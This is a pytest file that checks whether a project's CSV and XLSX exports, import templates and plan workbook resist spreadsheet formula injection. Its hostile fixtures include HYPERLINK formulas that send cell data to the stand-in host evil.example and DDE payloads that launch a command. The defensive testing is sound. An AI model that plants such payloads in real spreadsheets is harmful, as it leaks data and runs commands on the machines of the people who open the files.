"""No live formula in any spreadsheet khooshe writes, whatever names the workspace holds
(OWASP CSV injection): exports of every kind (CSV and XLSX), the import templates and the
plan's workbook. Numbers stay numbers."""

from __future__ import annotations

import csv
import shutil
import tomllib

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from khooshe.domain.schema import ENTITIES
from khooshe.io.tables import FORMULA_STARTS
from khooshe.services import data
from khooshe.store.workspace import Workspace

HOSTILE = {
    "province": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "establishment": "+cmd|' /C calc'!A0",
    "product": "@SUM(1+1)*cmd|' /C calc'!A0",
    "workspace": '=HYPERLINK("http://evil.example","ws")',
}


@pytest.fixture(scope="module")
def hostile_ws(demo_dir, tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile") / "ws"
    shutil.copytree(demo_dir, root)
    config = root / "khooshe.toml"
    body = config.read_text(encoding="utf-8")
    name = tomllib.loads(body)["workspace"]["name"]
    body = body.replace(f'name = "{name}"',
                        'name = "' + HOSTILE["workspace"].replace('"', '\\"') + '"')
    config.write_text(body, encoding="utf-8")
    ws = Workspace.open(root)
    assert ws.name == HOSTILE["workspace"]
    with ws.engine.begin() as conn:
        conn.execute(text("update regions set name_en = :n, name_fa = :n where code = '06'"),
                     {"n": HOSTILE["province"]})
        conn.execute(text("update establishments set name = :n"), {"n": HOSTILE["establishment"]})
        conn.execute(text("update products set name_en = :n"), {"n": HOSTILE["product"]})
    yield ws
    ws.close()


def _formula_cells(path) -> list[str]:
    """Cells of every sheet that a spreadsheet program would run: formulas, or text that
    starts like one (openpyxl writes text starting with ``=`` as a formula)."""
    wb = load_workbook(path)
    found = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str)
                                          and c.value.startswith(FORMULA_STARTS)):
                    found.append(f"{sheet.title}!{c.coordinate}: {c.value!r}")
    return found


def _is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("kind", sorted(ENTITIES))
def test_exports_of_every_kind_hold_no_formula(hostile_ws, tmp_path, kind):
    n = data.export_kind(hostile_ws, kind, tmp_path / f"{kind}.xlsx")
    assert _formula_cells(tmp_path / f"{kind}.xlsx") == []
    data.export_kind(hostile_ws, kind, tmp_path / f"{kind}.csv")
    with open(tmp_path / f"{kind}.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == n + 1
    live = [f for row in rows for f in row if f.startswith(FORMULA_STARTS) and not _is_number(f)]
    assert live == []
    if kind == "establishments":  # the hostile text is there, quote-prefixed, and read back
        assert any(f == "'" + HOSTILE["establishment"] for row in rows for f in row)
        for suffix in ("csv", "xlsx"):
            back = data.read_import(kind, tmp_path / f"{kind}.{suffix}")
            assert set(back["name"]) == {HOSTILE["establishment"]}, suffix
        wb = load_workbook(tmp_path / f"{kind}.xlsx")
        sheet = wb.worksheets[0]
        header = [c.value for c in sheet[1]]
        employees = [r[header.index("employees")] for r in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "n" for c in employees)  # numbers stay numbers
        assert any(isinstance(c.value, int) for c in employees)


@pytest.mark.parametrize("lang", ["fa", "en"])
def test_templates_hold_no_formula(tmp_path, lang):
    for kind in sorted(ENTITIES):
        path = tmp_path / f"{kind}-{lang}.xlsx"
        data.write_template(kind, path, lang=lang)
        assert _formula_cells(path) == [], kind


def test_the_plan_workbook_holds_no_formula(hostile_ws, tmp_path):
    from khooshe.reports.xlsx import render_xlsx
    from khooshe.services.plan import build_plan

    result = build_plan(hostile_ws, "06", sections=("profile",), lang="en")
    assert result.plan.province_name_en == HOSTILE["province"]
    for lang in ("fa", "en"):
        path = render_xlsx(result.plan, tmp_path / f"plan-{lang}.xlsx", lang=lang)
        assert _formula_cells(path) == []
        first = load_workbook(path).worksheets[0]
        values = [c.value for row in first.iter_rows() for c in row if c.value is not None]
        assert "'" + HOSTILE["province"] in values  # shown as text, not run
        assert "'" + HOSTILE["workspace"] in values
